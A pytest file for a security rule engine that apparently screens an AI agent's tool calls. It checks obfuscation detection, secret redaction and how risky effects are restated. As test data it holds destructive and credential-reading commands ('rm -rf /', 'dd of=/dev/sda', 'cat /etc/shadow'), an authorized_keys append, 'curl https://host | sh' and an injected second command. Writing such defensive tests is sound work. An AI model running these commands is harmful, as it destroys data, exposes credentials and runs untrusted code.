"""What patterns may see of a call: executed and unknown bytes, and nothing else."""

from __future__ import annotations

import pytest

from defenseclaw.core.facts import (
    ActionFacts,
    ByteKind,
    CommandContext,
    CommandEffect,
    CommandFact,
    FactsResult,
    NetworkAction,
    NetworkFact,
    ParseStatus,
    PathAccess,
    PathFact,
    PathFlavor,
    SourceText,
    Span,
)
from defenseclaw.core.labels import Trait
from defenseclaw.rules import restated
from defenseclaw.rules.fallback import visible_texts
from defenseclaw.rules.index import PatternIndex
from defenseclaw.rules.restated import restate
from tests.rules.packs import generation, result, rule, same, source
from tests.rules.test_catalog import PACK

BUILT_IN = PatternIndex([r for c in PACK.categories for r in c.rules if r.pattern])


def ids(facts: FactsResult, **changes: object) -> list[str]:
    found = generation(rule(**changes)).evaluate_call(facts, same).findings
    return [f.rule_id for f in found]


@pytest.mark.parametrize(
    "kind, seen",
    [
        (ByteKind.EXECUTED, True),
        (ByteKind.UNKNOWN, True),
        (ByteKind.DATA, False),
        (ByteKind.COMMENT, False),
    ],
)
def test_data_and_comments_are_invisible(kind: ByteKind, seen: bool) -> None:
    assert ids(result(source("needle", kind))) == (["T-1"] if seen else [])


def test_a_hit_may_not_reach_across_blanked_bytes() -> None:
    text = "nee'dl'e"
    spans = (
        Span(0, 3, ByteKind.EXECUTED),
        Span(3, 7, ByteKind.DATA),
        Span(7, 8, ByteKind.EXECUTED),
    )
    assert ids(result(SourceText("command", text, spans))) == []


@pytest.mark.parametrize(
    "family, tool, field, text, shown",
    [
        ("shell", "Bash", "command", "ls x", "ls x"),
        ("write", "Write", "file_path", "/a/b", "write /a/b"),
        ("", "mcp__files__put", "path", "/a/b", "mcp__files__put /a/b"),
        ("", "run", "command", "ls x", "ls x"),
        ("", "db", "input.sql", "select 1", "select 1"),
    ],
)
def test_a_typed_value_is_shown_with_the_word_of_its_tool(
    family: str, tool: str, field: str, text: str, shown: str
) -> None:
    facts = result(source(text, field=field), family=family)
    facts.facts.tool = tool
    assert list(visible_texts(facts)) == [shown]


def test_an_mcp_tool_is_shown_by_its_own_name() -> None:
    facts = result(source("/a/b", field="path"), family="", mcp_server="s", mcp_tool="write_file")
    assert list(visible_texts(facts)) == ["write_file /a/b"]


@pytest.mark.parametrize("text", ["nee''dle", "n\\eedle", 'n""eedle', "ne${x}edle", "ne^edle"])
def test_a_split_word_is_found_and_called_obfuscated(text: str) -> None:
    (found,) = generation(rule()).evaluate_call(result(source(text)), same).findings
    assert found.title == "Test rule (obfuscated)"
    assert found.confidence == 0.81


@pytest.mark.parametrize("text", ['rm -rf "$X"/', "rm -rf $DIR/", "rm -rf ${DIR}/*"])
def test_a_variable_beside_a_slash_does_not_become_the_root(text: str) -> None:
    assert ids(result(source(text)), pattern=r"rm -rf [\"']*/") == []


def test_lone_surrogates_do_not_stop_the_search() -> None:
    assert ids(result(source("\ud800 needle \udfff"))) == ["T-1"]


def test_text_rules_never_judge_a_call() -> None:
    facts = result(source("needle"))
    text_rules = generation(rule(), category="trust-exploit")
    assert text_rules.evaluate_call(facts, same).findings == ()


def test_the_shown_match_keeps_no_long_opaque_run() -> None:
    text = "needle --token " + "k3Jq" * 10
    found = generation(rule(pattern="needle.*")).evaluate_call(result(source(text)), same)
    assert "k3Jqk3Jqk3Jq" not in found.findings[0].seen
    assert found.findings[0].seen.startswith("needle --token")


def test_rules_about_secrets_show_only_a_beginning() -> None:
    facts = result(source("key AB12secretvalue"), status=ParseStatus.COMPLETE)
    one = generation(rule(pattern=r"AB\w+"), category="secret")
    (found,) = one.evaluate_call(facts, same).findings
    assert found.seen == "AB12… (15 characters)"


def test_a_secret_in_data_is_found_and_only_recorded() -> None:
    facts = result(source("key AB12secretvalue", ByteKind.DATA), status=ParseStatus.COMPLETE)
    one = generation(rule(pattern=r"AB\w+"), category="secret")
    (found,) = one.evaluate_call(facts, same).findings
    assert not found.enforceable
    assert found.seen == "argument: AB12… (15 characters)"


def test_a_secret_that_is_executed_is_enforced_although_data_hold_it_too() -> None:
    facts = result(
        source("run AB12secretvalue"), source("AB12secretvalue", ByteKind.DATA, field="command")
    )
    one = generation(rule(pattern=r"AB\w+"), category="secret")
    assert [f.enforceable for f in one.evaluate_call(facts, same).findings] == [True]


def test_a_secret_in_a_typed_value_is_left_to_the_scan_of_what_is_written() -> None:
    content = source("AB12secretvalue", ByteKind.DATA, field="content")
    one = generation(rule(pattern=r"AB\w+"), category="secret")
    assert one.evaluate_call(result(content, family="write"), same).findings == ()


# --- what was proven of a call that was not understood as a whole ---


def touching(
    access: PathAccess,
    name: str,
    *labels: str,
    recursive: bool = True,
    remote: bool = False,
    effect: CommandEffect = CommandEffect.EXECUTE,
    context: CommandContext = CommandContext.UNCONDITIONAL,
) -> ActionFacts:
    path = PathFact(
        1, access, PathFlavor.POSIX, name, name, True, name, list(labels), recursive, remote
    )
    command = CommandFact(1, effect=effect, context=context)
    return ActionFacts(commands=[command], paths=[path])


@pytest.mark.parametrize(
    "access, name, label, shown",
    [
        (PathAccess.DELETE, "/home/dana", "home-root", "rm -rf ~"),
        (PathAccess.DELETE, "/", "system-root", "rm -rf /"),
        (PathAccess.DELETE, "/mnt/data/x", "outside", "rm -rf /mnt/data/x"),
        (PathAccess.WRITE, "/dev/sda", "raw-disk", "dd of=/dev/sda"),
        (PathAccess.APPEND, "C:/ProgramData/ssh/administrators_authorized_keys", "authorized-keys",
         "tee ~/.ssh/authorized_keys"),
        (PathAccess.READ, "C:/Windows/System32/config/SAM", "shadow", "cat /etc/shadow"),
        (PathAccess.WRITE, "HKCU/Software/Microsoft/Windows/CurrentVersion/Run", "autostart",
         "tee ~/.config/autostart/x.desktop"),
        (PathAccess.CONNECT, "//./pipe/docker_engine", "container-socket",
         "docker run -v /var/run/docker.sock:/s x"),
    ],
)  # fmt: skip
def test_an_effect_on_a_place_that_matters_is_spelled_plainly(
    access: PathAccess, name: str, label: str, shown: str
) -> None:
    assert list(restate(touching(access, name, label))) == [(shown, True)]


@pytest.mark.parametrize(
    "made",
    [
        touching(PathAccess.DELETE, "/home/dana/app/x", "project"),
        touching(PathAccess.DELETE, "/tmp/x", "temp", "outside"),
        touching(PathAccess.READ, "/home/dana/app/x", "project"),
        touching(PathAccess.DELETE, "/", "system-root", remote=True),
        touching(PathAccess.DELETE, "/", "system-root", effect=CommandEffect.PREVIEW),
        touching(PathAccess.DELETE, "/", "system-root", context=CommandContext.DEAD),
        touching(PathAccess.DELETE, "/mnt/a;\nrm -rf ~", "outside"),
    ],
)
def test_nothing_is_said_of_other_effects(made: ActionFacts) -> None:
    assert list(restate(made)) == []


def test_what_only_might_run_is_told_apart() -> None:
    made = touching(PathAccess.DELETE, "/", "system-root", effect=CommandEffect.UNCERTAIN)
    assert list(restate(made)) == [("rm -rf /", False)]


def test_code_from_a_download_is_said_to_be_one() -> None:
    command = CommandFact(1, traits=[Trait.CODE_FROM_NETWORK])
    assert list(restate(ActionFacts(commands=[command]))) == [("curl https://host | sh", True)]


@pytest.mark.parametrize("label", [*restated.READ, *restated.CHANGED])
def test_every_restated_place_is_found_by_a_pattern(label: str) -> None:
    access = PathAccess.READ if label in restated.READ else PathAccess.WRITE
    ((text, certain),) = restate(touching(access, "C:/x", label))
    assert certain
    assert BUILT_IN.matching(text)


@pytest.mark.parametrize("trait", restated.DONE)
def test_every_restated_deed_is_found_by_a_pattern(trait: Trait) -> None:
    ((text, _),) = restate(ActionFacts(commands=[CommandFact(1, traits=[trait])]))
    assert BUILT_IN.matching(text)


def test_what_happens_elsewhere_or_to_test_data_is_not_said() -> None:
    command = CommandFact(1, traits=[Trait.PROTECTION_OFF], remote=True)
    assert list(restate(ActionFacts(commands=[command]))) == []
    assert (
        list(restate(touching(PathAccess.READ, "/w/tests/id", "ssh-private-key", "fixture"))) == []
    )


def test_secrets_that_flow_out_are_said_to_be_sent() -> None:
    command = CommandFact(1)
    target = NetworkFact(
        1, NetworkAction.UPLOAD, "https", "h.example", external=True, carries=["shadow"]
    )
    ((text, certain),) = restate(ActionFacts(commands=[command], network=[target]))
    assert certain
    assert BUILT_IN.matching(text)
